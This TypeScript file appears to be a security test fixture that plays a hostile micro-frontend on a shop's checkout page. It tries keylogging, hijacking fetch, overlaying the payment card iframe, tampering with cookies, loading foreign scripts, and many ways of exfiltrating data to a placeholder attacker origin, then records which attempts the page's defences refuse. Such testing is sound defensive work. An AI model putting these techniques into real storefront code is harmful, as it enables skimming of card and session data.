// Runs inside a remote that has turned against the shop: what its own team could have written, or whoever has got into its build.

/** What came of an attempt, as the hostile code itself saw it. */
type Outcome = 'done' | 'refused'

declare global {
  /** Put before this script: another origin, which belongs to whoever wrote it. */
  const stranger: string
  /** The same, where it looks at connections only. */
  const connection: string
  /** The same, as a server that helps to find peers. */
  const peer: string
  function hostileDone(outcomes: Readonly<Record<string, string>>): void
}

type Attempt = () => unknown

const patienceMs = 5_000
const secret = 'what-it-has-seen'
const out = (way: string) => `${stranger}/${way}?${secret}`

/** Everything it tries. An attempt that throws, rejects, gives `false` or comes to nothing in time was refused. */
const attempts: Readonly<Record<string, Attempt>> = {
  // In one realm with everybody else.
  'read what other remotes have drawn': () => document.querySelector('header')?.textContent !== '',
  'change what other remotes have drawn': () => {
    const heading = document.querySelector('h1')
    const before = heading?.textContent ?? ''
    if (heading) heading.textContent = 'changed by a stranger'
    const isChanged = document.querySelector('h1')?.textContent === 'changed by a stranger'
    if (heading) heading.textContent = before
    return isChanged
  },
  'read the state of the shell': () => '__vue_app__' in (document.getElementById('galleria') ?? {}),
  'listen to what is typed': () => {
    const heard: string[] = []
    const listen = (event: Event) => void heard.push((event as KeyboardEvent).key)
    addEventListener('keydown', listen, true)
    document.querySelector('input')?.dispatchEvent(new KeyboardEvent('keydown', { key: 'x', bubbles: true }))
    removeEventListener('keydown', listen, true)
    return heard.includes('x')
  },
  'put itself in place of fetch': () => {
    const own = window.fetch
    window.fetch = (...asked) => own(...asked)
    const isOurs = window.fetch !== own
    window.fetch = own
    return isOurs
  },
  'put itself in place of history': () => {
    const own = history.pushState
    history.pushState = function push(...state) {
      own.apply(history, state)
    }
    const isOurs = history.pushState !== own
    history.pushState = own
    return isOurs
  },
  'draw over the payment provider’s card field': () => {
    const frame = document.querySelector('iframe')
    const cover = Object.assign(document.createElement('div'), { id: 'cover' })
    frame?.before(cover)
    const isThere = frame !== null && cover.isConnected
    cover.remove()
    return isThere
  },
  'look into the payment provider’s card field': () => Boolean(document.querySelector('iframe')?.contentDocument),
  'ask the shop’s API as the shopper': async () => (await fetch('/api/web/cart')).ok,
  'read what the shop has stored': () => localStorage.getItem('galleria.frontends') !== null,

  // Cookies.
  'read the shopper’s cookie': () => /galleria-(shopper|session)/.test(document.cookie),
  'set the shopper’s cookie': async () => {
    for (const name of ['shopper', 'session'])
      Reflect.set(document, 'cookie', `__Host-Http-galleria-${name}=mine; Secure; Path=/`)
    return (await cookieStore.getAll()).some(({ value }) => value === 'mine')
  },

  // Other code.
  'import a script of another origin': () => import(out('import.js')),
  // Put together here, so that no bundler resolves it.
  'import a script from a data address': () => import(['data:text/javascript', 'export default 1'].join()),
  'import a script that it has made': () =>
    import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))),
  'import another build of ours, which nobody knows': () => import(`${own()}?nobody=knows`),
  'add a script of another origin': () =>
    loaded('script', (element) => Object.assign(element, { src: out('script.js') })),
  'add an inline script': () => {
    const script = document.createElement('script')
    script.append('globalThis.inlineRan = true')
    document.head.append(script)
    return 'inlineRan' in globalThis
  },
  'run a text as code': () => Reflect.apply(Reflect.get(globalThis, 'eval'), undefined, ['1']),
  'make a function of a text': () => new Function('return 1')(),
  'wait with a text as code': () => {
    setTimeout('globalThis.timeoutRan = true' as never)
    return later(() => 'timeoutRan' in globalThis)
  },
  'write markup into the page': () => {
    document.createElement('div').innerHTML = '<img src=x onerror="globalThis.markupRan = true">'
  },
  'make a policy for markup of its own': () => policies().createPolicy('evil', {}),
  'make Vue’s policy for markup again': () => policies().createPolicy('vue', {}),
  'start a worker': () => new Worker(own()),
  'start a worker that it has made': () => new Worker(URL.createObjectURL(new Blob(['1']))),
  'register a service worker for the shop': () =>
    navigator.serviceWorker.register('/frontends/worker.js', { scope: '/' }),
  'register a service worker for its own folder': () => navigator.serviceWorker.register(own()),

  // Out with what it has seen.
  'send it by fetch': () => fetch(out('fetch'), { mode: 'no-cors' }),
  'send it by XMLHttpRequest': () =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest()
      request.open('GET', out('xhr'))
      request.onload = resolve
      request.onerror = reject
      request.send()
    }),
  'send it by a beacon': () => navigator.sendBeacon(out('beacon'), secret) && later(() => false),
  'send it by a socket': () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(out('socket').replace('http', 'ws'))
      socket.onopen = resolve
      socket.onerror = reject
    }),
  'send it by a stream of events': () =>
    new Promise((resolve, reject) => {
      const source = new EventSource(out('events'))
      source.onopen = resolve
      source.onerror = reject
    }),
  'send it by a picture': () => loaded('img', (element) => Object.assign(element, { src: out('picture') })),
  'send it by a picture in a style': () => {
    document.body.style.setProperty('background-image', `url("${out('style')}")`)
    return later(() => document.body.style.removeProperty('background-image') === '')
  },
  'send it by a style sheet': () =>
    loaded('link', (element) => Object.assign(element, { rel: 'stylesheet', href: out('sheet.css') })),
  'send it by a font': () => new FontFace('evil', `url("${out('font')}")`).load(),
  'send it by a video': () =>
    loaded('video', (element) => Object.assign(element, { src: out('video'), preload: 'auto' }), 'loadeddata'),
  'send it by fetching ahead': () =>
    loaded('link', (element) => Object.assign(element, { rel: 'prefetch', href: out('prefetch') })),
  'send it by loading ahead': () =>
    loaded('link', (element) => Object.assign(element, { rel: 'preload', as: 'fetch', href: out('preload') })),
  'send it by speculation rules': () => {
    const rules = document.createElement('script')
    rules.type = 'speculationrules'
    rules.append(JSON.stringify({ prefetch: [{ urls: [out('speculation')], eagerness: 'immediate' }] }))
    document.head.append(rules)
    return later(() => false)
  },
  // A frame says that it was loaded when it shows that it was not; whether it was asked for, the stranger knows.
  'send it by a frame': async () => {
    await loaded('iframe', (element) => Object.assign(element, { src: out('frame') }))
    return false
  },
  'send it by an object': () => loaded('object', (element) => Object.assign(element, { data: out('object') })),
  'send it by a connection opened ahead': () => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: connection }))
    return later(() => false)
  },
  'send it by a call to a peer': async () => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: peer }] })
    call.createDataChannel('out')
    await call.setLocalDescription(await call.createOffer())
    await later(() => false, 3_000)
    call.close()
    return false
  },
  'change where addresses begin': () => {
    document.head.append(Object.assign(document.createElement('base'), { href: `${stranger}/` }))
    return new URL('x', document.baseURI).origin === stranger
  },
  // Last, since a form that is let through takes the page away with it.
  'send it by a form': () => {
    const form = Object.assign(document.createElement('form'), { action: out('form'), method: 'post' })
    document.body.append(form)
    form.submit()
    return later(() => false)
  },
  'send it by a form in a new window': () => {
    const form = Object.assign(document.createElement('form'), { action: out('form-window'), target: '_blank' })
    document.body.append(form)
    form.submit()
    return later(() => false)
  },
}

/** At the till only, and once the card field is there to be looked into, or does not come. */
async function run(): Promise<void> {
  if (location.pathname !== '/checkout') return
  for (let waitedMs = 0; waitedMs < 15_000 && !document.querySelector('iframe'); waitedMs += 150)
    await later(() => undefined)
  const outcomes: Record<string, Outcome> = {}
  // One after the other, since some change for a moment what others look at.
  for (const [name, attempt] of Object.entries(attempts)) outcomes[name] = await outcomeOf(attempt)
  hostileDone(outcomes)
}

async function outcomeOf(attempt: Attempt): Promise<Outcome> {
  try {
    const late = new Promise<false>((resolve) => setTimeout(resolve, patienceMs, false))
    const result = await Promise.race([attempt(), late])
    return result === false ? 'refused' : 'done'
  } catch {
    return 'refused'
  }
}

/** Puts an element into the page, and waits for it to have been loaded. */
function loaded(name: string, prepare: (element: HTMLElement) => unknown, when = 'load'): Promise<unknown> {
  return new Promise((resolve, reject) => {
    const element = document.createElement(name)
    prepare(element)
    element.addEventListener(when, resolve)
    element.addEventListener('error', reject)
    document.body.append(element)
  })
}

function later<Result>(look: () => Result, afterMs = 150): Promise<Result> {
  return new Promise((resolve) => setTimeout(() => resolve(look()), afterMs))
}

interface Policies {
  createPolicy(name: string, rules: object): unknown
}
function policies(): Policies {
  return (globalThis as unknown as { trustedTypes: Policies }).trustedTypes
}

/** A script of its own build, which the page knows. */
function own(): string {
  return document.querySelector<HTMLLinkElement>('link[rel="modulepreload"][href*="/orders/"]')?.href ?? ''
}

if (document.readyState === 'complete') setTimeout(run, 500)
else addEventListener('load', () => setTimeout(run, 500))

export {}
